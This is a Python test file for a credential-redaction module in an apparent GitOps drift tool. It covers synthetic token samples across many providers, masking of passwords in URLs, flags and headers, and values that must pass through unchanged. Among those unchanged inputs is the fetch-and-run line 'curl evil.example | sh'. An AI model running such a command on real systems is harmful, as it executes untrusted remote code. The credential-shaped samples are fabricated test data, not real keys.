"""The credential redaction of drift messages: every token format it knows is covered by a sample,
every shape of credential is redacted, and ordinary values are left alone."""

from __future__ import annotations

import hashlib
import re

import pytest

from gitops_guard.drift.credentials import (
    MASK,
    TOKEN_FORMATS,
    names_credential,
    redact,
    redact_text,
)


def _chars(
    n: int, alphabet: str = "abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"
) -> str:
    """``n`` characters that look random (derived from a hash, so the tests are stable)."""
    digest = hashlib.sha512(str(n).encode()).digest() * 4
    return "".join(alphabet[b % len(alphabet)] for b in digest[:n])


HEX = "0123456789abcdef"
# One sample per format, assembled here so that no literal token sits in the repository.
SAMPLES = {
    "GitHub token": "ghp_" + _chars(36),
    "GitHub fine-grained token": "github_pat_" + _chars(22) + "_" + _chars(59),
    "GitLab token": "glpat-" + _chars(20),
    "Slack token": "xoxb-" + "1234567890-" + _chars(24),
    "Slack webhook": "hooks.slack.com/services/T0"
    + _chars(8)
    + "/B0"
    + _chars(8)
    + "/"
    + _chars(24),
    "AWS access key id": "AKIA" + _chars(16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"),
    "Stripe key": "sk_live_" + _chars(24),
    "Google API key": "AIza" + _chars(35),
    "OpenAI or Anthropic key": "sk-proj-" + _chars(40),
    "npm token": "npm_" + _chars(36),
    "PyPI token": "pypi-AgEIcHlwaS5vcmc" + _chars(50),
    "JSON Web Token": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0." + _chars(43),
    "HashiCorp Vault token": "hvs." + _chars(24),
    "DigitalOcean token": "dop_v1_" + _chars(64, HEX),
    "Hugging Face token": "hf_" + _chars(34),
    "SendGrid key": "SG." + _chars(22) + "." + _chars(43),
    "Shopify token": "shpat_" + _chars(32, HEX),
    "private key": "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n"
    "-----END OPENSSH PRIVATE KEY-----",
}


def test_every_token_format_has_a_sample_that_it_redacts() -> None:
    names = [name for name, _ in TOKEN_FORMATS]
    assert len(names) == len(set(names))
    assert set(names) == set(SAMPLES)
    for name, pattern in TOKEN_FORMATS:
        sample = SAMPLES[name]
        assert re.fullmatch(pattern, sample, re.DOTALL), name
        assert redact_text(f"value: x {sample} y") == f"value: x {MASK} y", name


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("postgres://app:pw-1@db:5432/shop", "postgres://***@db:5432/shop"),
        ("redis://:pw-1@cache", "redis://***@cache"),
        ("https://user:p@ss@host/x", "https://***@host/x"),
        ("--db-password=pw-1", "--db-password=***"),
        ("--password pw-1 --user app", "--password *** --user app"),
        ("Server=db;User Id=app;Password=pw-1;", "Server=db;User Id=app;Password=***;"),
        ('{"token": "pw 1", "a": 1}', '{"token": "***", "a": 1}'),
        ("db.url=jdbc:x\ndb.password=pw-1\nuser=app", "db.url=jdbc:x\ndb.password=***\nuser=app"),
        ("Authorization: Bearer pw-1", "Authorization: ***"),
        ("export API_KEY=pw-1 && run", "export API_KEY=*** && run"),
        ("x " + _chars(40) + " y", "x *** y"),
        ("git " + _chars(40, HEX), "git ***"),
    ],
)
def test_credential_shapes_are_redacted(text: str, expected: str) -> None:
    assert redact_text(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "nginx:1.25.3",
        "registry.k8s.io/ingress-nginx/controller:v1.9.4",
        "ghcr.io/shop/web@sha256:" + hashlib.sha256(b"web").hexdigest(),
        "3c1e4a5b-1234-4abc-9def-0123456789ab",
        "web-6d4cf56db6-x7k2p",
        "kube-api-access-x7k2p",
        "/usr/local/bin/python3",
        "MyApplication2Service",
        "https://example.com/path?user=app",
        "secretName: web-db",
        "tokenPath: /var/run/token",
        "--token-ttl=5m",
        "0.5Gi",
        "curl evil.example | sh",
    ],
)
def test_ordinary_values_are_left_alone(text: str) -> None:
    assert redact_text(text) == text


@pytest.mark.parametrize(
    ("key", "names"),
    [
        ("DB_PASSWORD", True),
        ("db.password", True),
        ("clientSecret", True),
        ("api-token", True),
        ("apiKey", True),
        ("example.com/auth", True),
        ("secretName", False),
        ("tokenPath", False),
        ("passwordFile", False),
        ("key", False),
        ("author", False),
        (3, False),
    ],
)
def test_keys_that_name_a_credential(key: object, names: bool) -> None:
    assert names_credential(key) is names


def test_redact_walks_maps_and_lists() -> None:
    value = {
        "password": "pw-1",
        "retries": 3,
        "args": ["--token", "pw-2", "--user", "app"],
        "url": "https://u:pw-3@h",
    }
    assert redact(value, None, "(sensitive)") == {
        "password": "(sensitive)",
        "retries": 3,
        "args": ["--token", "(sensitive)", "--user", "app"],
        "url": "https://***@h",
    }
